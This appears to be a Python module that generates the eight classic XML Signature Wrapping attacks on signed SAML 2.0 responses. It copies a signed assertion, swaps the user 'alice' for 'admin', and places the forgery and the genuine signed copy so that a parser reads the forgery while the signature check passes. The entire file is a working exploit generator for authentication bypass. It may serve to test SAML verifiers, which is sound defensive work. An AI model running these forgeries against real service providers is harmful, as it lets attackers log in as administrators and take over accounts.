"""Signature wrapping: the eight classic ways of putting a forged assertion where a reader, but not a verifier, looks."""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
Element = Any
"""An element of lxml, which carries no types."""
Wrap = Callable[[Element], Element]


def wrapped(signed: str, number: int, *, same_id: bool = False) -> str:
    """Return a signed response with the wrapping of a number, from 1 to 8; `same_id` gives the forgery the true ID."""
    root = WRAPPINGS[number - 1](etree.fromstring(signed.encode()))
    text: str = etree.tostring(root).decode()
    true_id = etree.fromstring(signed.encode()).find(f"{SAML}Assertion").get("ID")
    return text.replace('ID="evil-1"', f'ID="{true_id}"') if same_id else text


def _forged(element: Element) -> Element:
    forged = deepcopy(element)
    for one in forged.iter(f"{SAML}NameID", f"{SAML}AttributeValue"):
        one.text = (one.text or "").replace("alice", "admin")
    forged.set("ID", "evil-1")
    return forged


def _bare(element: Element) -> Element:
    bare = deepcopy(element)
    for signature in bare.findall(f"{DS}Signature"):
        bare.remove(signature)
    return bare


def _signature(element: Element) -> Element:
    return next(element.iter(f"{DS}Signature"))


def _assertion(root: Element) -> Element:
    return root.find(f"{SAML}Assertion")


def _response_within_the_signature(root: Element) -> Element:
    forged = _forged(root)
    _signature(forged).append(_bare(root))
    return forged


def _response_before_the_signature(root: Element) -> Element:
    forged = _forged(root)
    _signature(forged).addprevious(_bare(root))
    return forged


def _forgery_before_the_assertion(root: Element) -> Element:
    _assertion(root).addprevious(_bare(_forged(_assertion(root))))
    return root


def _forgery_around_the_assertion(root: Element) -> Element:
    true = _assertion(root)
    forged = _bare(_forged(true))
    root.replace(true, forged)
    forged.append(true)
    return root


def _true_copy_at_the_end(root: Element) -> Element:
    true = _assertion(root)
    root.replace(true, _forged(true))
    root.append(_bare(true))
    return root


def _true_copy_within_the_signature(root: Element) -> Element:
    true = _assertion(root)
    forged = _forged(true)
    root.replace(true, forged)
    _signature(root).append(_bare(true))
    return root


def _forgery_in_extensions(root: Element) -> Element:
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(_bare(_forged(_assertion(root))))
    root.find(f"{SAMLP}Status").addprevious(extensions)
    return root


def _true_copy_in_an_object(root: Element) -> Element:
    true = _assertion(root)
    root.replace(true, _forged(true))
    etree.SubElement(_signature(root), f"{DS}Object").append(_bare(true))
    return root


WRAPPINGS: tuple[Wrap, ...] = (
    _response_within_the_signature,
    _response_before_the_signature,
    _forgery_before_the_assertion,
    _forgery_around_the_assertion,
    _true_copy_at_the_end,
    _true_copy_within_the_signature,
    _forgery_in_extensions,
    _true_copy_in_an_object,
)
